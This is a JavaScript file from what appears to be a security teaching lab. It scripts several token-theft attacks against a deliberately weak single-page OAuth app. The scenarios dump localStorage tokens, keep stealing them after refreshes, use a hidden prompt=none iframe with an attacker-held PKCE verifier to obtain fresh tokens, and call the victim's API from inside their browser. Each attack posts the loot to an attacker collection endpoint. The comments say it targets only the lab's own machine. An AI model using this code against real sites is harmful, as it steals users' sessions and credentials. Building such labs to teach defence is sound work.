// The lab's attacks on the weak app. They send to the lab's own attacker on this machine and to nobody else.
const attacks = {
  async single() {
    await steal('single', 'One look into localStorage.');
  },

  async persistent() {
    await steal('persistent', 'The script stays.');
    for (const round of ['first', 'second']) {
      await app.refresh();
      await steal(
        'persistent',
        `The app renewed its tokens for the ${round} time, and the script took those too.`,
      );
    }
  },

  // A flow of the attacker's own, in a frame nobody sees: the person is signed in at the provider, so it just answers.
  async frame() {
    const { authorizeUrl, random } = await import('/app.js');
    const verifier = random();
    const frame = document.createElement('iframe');
    frame.hidden = true;
    frame.src = await authorizeUrl(verifier, random(), { prompt: 'none' });
    document.body.append(frame);
    const query = await answerIn(frame);
    frame.remove();
    const body = new URLSearchParams({
      client_id: app.settings.clientId,
      grant_type: 'authorization_code',
      code: query.get('code') ?? '',
      code_verifier: verifier,
      redirect_uri: `${location.origin}/callback`,
    });
    const loot = await (await fetch('/token', { method: 'POST', body })).text();
    await tell({
      scenario: 'frame',
      note: 'New tokens from a hidden frame, with a sign-in of the attacker’s own.',
      loot,
    });
  },

  async proxy() {
    await tell({
      scenario: 'proxy',
      note: 'The script called the API in the victim’s browser.',
      data: await app.whoAmI(),
    });
  },

  async logout() {
    await steal('logout', 'Taken while the victim was there.');
    app.signOut();
    say('The victim signed out, and the tab could be closed now.');
  },
};

addEventListener('app-ready', async () => {
  const name = sessionStorage.getItem('attack');
  sessionStorage.removeItem('attack');
  if (!Object.hasOwn(attacks, name ?? '')) return;
  await attacks[name]();
  say('Done. You can close this tab.');
});

async function steal(scenario, note) {
  await tell({ scenario, note, loot: { ...localStorage } });
}

async function tell(message) {
  say(message.note);
  const body = JSON.stringify({ from: 'storage', ...message });
  await fetch(`${app.settings.attacker}/collect`, { method: 'POST', mode: 'no-cors', body });
}

async function answerIn(frame) {
  for (let tries = 0; tries < 50; tries += 1) {
    await new Promise((resolve) => setTimeout(resolve, 100));
    try {
      const { pathname, search } = frame.contentWindow.location;
      if (pathname === '/callback') return new URLSearchParams(search);
    } catch {
      // still at the provider
    }
  }
  return new URLSearchParams();
}

function say(text) {
  const item = document.createElement('li');
  item.textContent = text;
  document.querySelector('#attack').append(item);
}
